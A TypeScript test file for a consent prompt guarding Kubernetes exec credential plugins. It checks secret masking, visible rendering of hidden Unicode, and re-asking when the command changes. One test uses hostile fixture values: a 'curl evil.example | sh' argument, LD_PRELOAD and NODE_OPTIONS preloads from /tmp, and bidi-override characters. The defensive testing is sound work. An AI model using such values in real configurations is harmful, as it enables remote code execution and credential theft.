import { describe, expect, it } from 'vitest';
import type { CredentialPlugin } from '../../../../../src/main/kube/config/cluster-access';
import {
  PluginConsents,
  consentHash,
  consentKey,
} from '../../../../../src/main/kube/credentials/plugin-consent';
import type { PluginCall } from '../../../../../src/main/kube/credentials/plugin-source';
import type { PluginConsent } from '../../../../../src/shared/sign-in';

const PLUGIN: CredentialPlugin = {
  apiVersion: 'client.authentication.k8s.io/v1',
  command: 'login',
  args: ['get-token', '--client-secret=s3'],
  env: [
    { name: 'REGION', value: 'eu' },
    { name: 'API_TOKEN', value: 't' },
  ],
  installHint: '',
  provideClusterInfo: false,
  interactiveMode: 'Never',
  path: '/home/qa/.kube/config',
  folder: '/home/qa/.kube',
  clusterConfig: null,
};
const CLUSTER: NonNullable<PluginCall['cluster']> = {
  server: 'https://c.example',
  serverName: null,
  skipVerify: false,
  ca: null,
  proxy: null,
  config: null,
};

const call = (
  plugin: Partial<CredentialPlugin> = {},
  more: Partial<Pick<PluginCall, 'user' | 'cluster'>> = {},
): PluginCall => ({
  plugin: { ...PLUGIN, ...plugin },
  context: 'ctx',
  user: 'qa',
  cluster: null,
  readCa: () => Promise.reject(new Error('not asked for')),
  ...more,
});
const asked = (of: PluginCall, program = '/bin/login') => ({
  call: of,
  program,
  contexts: ['ctx'],
});

const live = (): AbortSignal => new AbortController().signal;
function consents() {
  const store = new Map<string, string>();
  const told: (PluginConsent | null)[] = [];
  const under = new PluginConsents({
    store: { get: (key) => store.get(key), set: (key, hash) => store.set(key, hash) },
    onConsent: (question) => told.push(question),
  });
  return { store, told, under };
}

describe('consent', () => {
  it('shows what is not seen, and hides nothing that may be a command', () => {
    const { under } = consents();
    const hostile = call(
      {
        command: './log\u202ein',
        path: '/tmp/a\nb',
        args: [
          '-c',
          'a\nb\u200b',
          'token="$(curl evil.example | sh)"',
          '--token',
          '`evil`',
          '--password=hunter2',
          String.raw`C:\bin`,
        ],
        env: [
          { name: 'NODE_OPTIONS', value: '--require /tmp/x.js --token=abcdef' },
          { name: 'LD_PRELOAD', value: `/tmp/${'0123456789abcdef'.repeat(2)}` },
          { name: 'A\u00a0B', value: 'x' },
          { name: 'API_TOKEN', value: 'a b' },
        ],
      },
      { user: 'q\u2066a' },
    );
    void under.ask({ ...asked(hostile, '/tmp/log\u202ein'), contexts: ['c\u200dtx'] }, live());
    expect(under.pending).toMatchObject({
      contexts: ['c⟨U+200D⟩tx'],
      user: 'q⟨U+2066⟩a',
      path: '/tmp/a⏎b',
      command: './log⟨U+202E⟩in',
      program: '/tmp/log⟨U+202E⟩in',
      args: [
        '-c',
        'a⏎b⟨U+200B⟩',
        'token="$(curl evil.example | sh)"',
        '--token',
        '`evil`',
        '--password=•••',
        String.raw`C:\bin`,
      ],
      env: [
        { name: 'NODE_OPTIONS', value: '--require /tmp/x.js --token=abcdef' },
        { name: 'LD_PRELOAD', value: `/tmp/${'0123456789abcdef'.repeat(2)}` },
        { name: 'A⟨U+00A0⟩B', value: 'x' },
        { name: 'API_TOKEN', value: null },
      ],
    });
  });

  it('is asked for with what would run, secrets hidden, and remembered', async () => {
    const { under, told, store } = consents();
    const answer = under.ask(asked(call()), live());
    const question = under.pending;
    expect(question).toEqual({
      id: expect.any(String) as string,
      contexts: ['ctx'],
      user: 'qa',
      path: '/home/qa/.kube/config',
      command: 'login',
      program: '/bin/login',
      args: ['get-token', '--client-secret=•••'],
      env: [
        { name: 'REGION', value: 'eu' },
        { name: 'API_TOKEN', value: null },
      ],
      tellsServer: null,
      changed: false,
    });
    expect(under.answer('another', true)).toBe(false);
    expect(under.answer(question?.id ?? '', true)).toBe(true);
    expect(await answer).toBe(true);
    expect(told).toEqual([question, null]);
    expect([...store.keys()]).toEqual(['/home/qa/.kube/config#qa']);
    expect(JSON.stringify([...store])).not.toMatch(/s3|get-token/);
    expect(await under.ask(asked(call()), live())).toBe(true);
    expect(told).toHaveLength(2);
    expect(under.answer(question?.id ?? '', true)).toBe(false);
  });

  it.each([
    ['another argument', call({ args: ['get-token', '--as=admin'] }), '/bin/login'],
    ['another variable', call({ env: [{ name: 'REGION', value: 'us' }] }), '/bin/login'],
    ['another program under that name', call(), '/tmp/login'],
  ])('for what has changed since is asked for again: %s', async (_what, changed, program) => {
    const { under, store } = consents();
    const first = under.ask(asked(call()), live());
    under.answer(under.pending?.id ?? '', true);
    expect(await first).toBe(true);
    // The very file and user that were agreed to.
    expect(store.get(consentKey(changed))).toBeDefined();

    const second = under.ask(asked(changed, program), live());
    expect(under.pending).toMatchObject({ changed: true, program });
    under.answer(under.pending?.id ?? '', false);
    expect(await second).toBe(false);
    // The refusal took nothing back.
    expect(await under.ask(asked(call()), live())).toBe(true);
  });

  it('that was refused is not remembered', async () => {
    const { under, store } = consents();
    const answer = under.ask(asked(call()), live());
    under.answer(under.pending?.id ?? '', false);
    expect(await answer).toBe(false);
    expect(store.size).toBe(0);
  });

  it('is asked for one by one; one answer may answer others', async () => {
    const { under, told } = consents();
    const first = under.ask(asked(call()), live());
    const second = under.ask(asked(call({ command: 'other' }), '/bin/other'), live());
    const third = under.ask(asked(call()), live());
    expect(told).toHaveLength(1);
    under.answer(under.pending?.id ?? '', true);
    expect(await first).toBe(true);
    expect(await third).toBe(true);
    expect(under.pending).toMatchObject({ program: '/bin/other', changed: true });
    under.answer(under.pending?.id ?? '', false);
    expect(await second).toBe(false);
    expect(under.pending).toBeNull();
  });

  it('that was refused is not asked for again right away for the same call', async () => {
    const { under } = consents();
    const answers = [under.ask(asked(call()), live()), under.ask(asked(call()), live())];
    under.answer(under.pending?.id ?? '', false);
    expect(await Promise.all(answers)).toEqual([false, false]);
    expect(under.pending).toBeNull();
  });

  it('is still asked for by others when one does not need it any more', async () => {
    const { under } = consents();
    const gone = new AbortController();
    const first = under.ask(asked(call()), gone.signal);
    const second = under.ask(asked(call()), live());
    gone.abort();
    expect(await first).toBe(false);
    under.answer(under.pending?.id ?? '', true);
    expect(await second).toBe(true);
  });

  it('is not waited for when nobody needs it any more', async () => {
    const { under, told } = consents();
    const gone = new AbortController();
    const answer = under.ask(asked(call()), gone.signal);
    gone.abort();
    expect(await answer).toBe(false);
    expect(told.at(-1)).toBeNull();
    expect(await under.ask(asked(call()), gone.signal)).toBe(false);
    expect(under.pending).toBeNull();
  });

  it('holds for exactly what was agreed to', () => {
    const told = (cluster: Partial<typeof CLUSTER>): PluginCall =>
      call({}, { cluster: { ...CLUSTER, ...cluster } });
    const all: [PluginCall, string?][] = [
      [call()],
      [call(), '/usr/local/bin/login'],
      [call({ args: ['get-token'] })],
      [call({ args: ['get-token --client-secret=s3'] })],
      [call({ env: [] })],
      [call({ env: [{ name: 'REGION', value: 'us' }] })],
      [call({ env: [{ name: 'REGIO', value: 'Nus' }] })],
      [call({ apiVersion: 'client.authentication.k8s.io/v1beta1' })],
      [call({ path: '/tmp/config' })],
      [call({}, { user: 'other' })],
      [told({})],
      [told({ server: 'https://d.example' })],
      [told({ serverName: 'x' })],
      [told({ skipVerify: true })],
      [told({ proxy: 'http://p.example' })],
      [told({ config: { audience: 'a' } })],
    ];
    const hashes = all.map(([of, program]) => consentHash(asked(of, program)));
    expect(new Set(hashes).size).toBe(all.length);
    expect(consentHash(asked(call()))).toBe(hashes[0]);
    // A rotated CA is no reason to ask.
    const ca = { kind: 'file', path: '/ca' } as const;
    expect(consentHash(asked(told({ ca })))).toBe(consentHash(asked(told({}))));
  });

  it('for one server is not in the way of that for another', () => {
    const keys = ['https://a', 'https://b'].map((server) =>
      consentKey(call({}, { cluster: { ...CLUSTER, server } })),
    );
    expect(new Set(keys).size).toBe(2);
  });
});
